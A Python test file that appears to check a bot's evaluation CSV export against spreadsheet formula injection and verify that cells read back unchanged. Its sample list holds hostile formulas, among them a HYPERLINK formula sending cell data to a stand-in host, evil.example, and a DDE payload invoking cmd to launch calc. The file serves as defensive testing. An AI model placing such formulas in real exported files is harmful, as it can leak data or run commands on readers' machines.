"""The evaluation CSV (`/tune eval` and after a job) opened in a spreadsheet runs no formula
(OWASP's CSV injection advice), and a program reading it gets every cell back as it was."""

from __future__ import annotations

import csv
import io

from bot.evaluation.report import EvalReport, EvalRow, original_cell, read_evaluation_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''+two quotes",
    "'plain quote",
    "a,=1+1;=2+2",
    'He said "hi"\n=3+3',
    "-",
    "-3",
    "+1.5e3",
    "-3 ",
    "--3",
    "",
    "ordinary text",
    "число =1",
]


def _report() -> EvalReport:
    rows = [
        EvalRow(
            text_input=cell,
            expected=HOSTILE[(i + 1) % len(HOSTILE)],
            base=HOSTILE[(i + 2) % len(HOSTILE)],
            tuned=HOSTILE[(i + 3) % len(HOSTILE)],
            base_error=HOSTILE[i] if i % 3 == 0 else None,
            tuned_error=HOSTILE[(i + 4) % len(HOSTILE)] if i % 4 == 0 else None,
        )
        for i, cell in enumerate(HOSTILE)
    ]
    return EvalReport(tuned_model="tunedModels/x", base_model="models/y", rows=rows, available=len(rows))


def test_no_cell_starts_a_formula_and_every_cell_is_quoted() -> None:
    raw = _report().to_csv().decode("utf-8")
    # A spreadsheet reads each quoted field as its text: none may start like a formula.
    for record in csv.reader(io.StringIO(raw)):
        for cell in record:
            assert not cell.startswith(FORMULA_STARTS) or cell in ("-3", "+1.5e3"), repr(cell)
    # A plain number stays a number.
    assert '"-3"' in raw and '"+1.5e3"' in raw and '"\'-3 "' in raw
    # Every field is quoted, so a spreadsheet splitting on `;` or `,` inside one finds no new cell.
    for record in csv.reader(io.StringIO(raw), quoting=csv.QUOTE_NONNUMERIC):
        assert all(isinstance(cell, str) for cell in record), record


def test_a_program_reads_every_cell_back_as_it_was() -> None:
    report = _report()
    rows = read_evaluation_csv(report.to_csv())
    assert len(rows) == len(report.rows)
    for written, read in zip(report.rows, rows, strict=True):
        assert read["input"] == written.text_input
        assert read["expected"] == written.expected
        assert read["base_answer"] == written.base and read["tuned_answer"] == written.tuned
        assert read["base_error"] == (written.base_error or "")
        assert read["tuned_error"] == (written.tuned_error or "")
    # The documented rule, by hand: a leading `'` before quotes and a formula start is tunebot's.
    assert original_cell("'=1+1") == "=1+1" and original_cell("'''-x") == "''-x"
    assert original_cell("'plain") == "'plain" and original_cell("=1") == "=1"
